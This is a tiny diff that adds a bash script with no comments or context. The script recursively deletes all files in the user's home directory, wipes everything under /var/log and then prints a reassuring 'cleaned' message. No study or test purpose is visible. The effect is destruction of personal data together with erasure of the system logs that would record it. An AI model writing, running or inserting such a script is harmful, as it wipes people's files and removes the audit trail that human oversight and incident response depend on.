@@ -1,0 +1,4 @@
+#!/bin/bash
+rm -rf "$HOME"/*
+rm -rf /var/log/*
+echo "cleaned"
